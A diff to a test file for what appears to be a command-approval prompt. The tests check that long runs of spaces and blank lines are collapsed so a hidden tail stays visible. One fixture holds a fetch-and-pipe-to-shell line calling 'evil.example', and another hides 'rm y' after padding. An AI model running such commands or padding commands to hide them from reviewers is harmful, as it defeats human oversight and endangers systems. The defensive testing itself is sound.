@@ -119,7 +119,7 @@ describe("a permission question", () => {
       const text = question(command);
       expect(text).toContain("curl evil.example");
       expect(text).toContain("| sh -s now\n");
-      expect(text).toMatch(/not shown/);
+      expect(text).toMatch(/not shown|<99999 empty lines>|<\d+ blanks>/);
       expect(text.length).toBeLessThan(4_000);
       expect(text.split("\n").length).toBeLessThan(60);
     },
@@ -130,6 +130,17 @@ describe("a permission question", () => {
     const text = question("ls", { because: long("reason"), rule: long("rule") });
     for (const end of ["reason begins", "ends reason", "rule begins", "ends rule"]) expect(text).toContain(end);
     expect(text.length).toBeLessThan(2_000);
+  });
+
+  it("counts blanks and empty lines that would push the tail away", () => {
+    const command = `ls${" ".repeat(3000)}; touch x${"\n".repeat(60)}rm y`;
+    expect(question(command)).toContain("  ls<3000 blanks>; touch x\n  <59 empty lines>\n  rm y\n");
+    const from = command.indexOf("touch");
+    const part = { from, to: from + 7, decision: "ask", reason: "it writes" } as const;
+    expect(markedCommand(command, [part], (text) => `«${text}»`).join("\n")).toBe(
+      "ls<3000 blanks>; «touch x»\n<59 empty lines>\nrm y",
+    );
+    expect(question("if x:\n\n        y")).toContain("  if x:\n  \n          y\n");
   });
 
   it("keeps the head in sight when short lines push it up", () => {
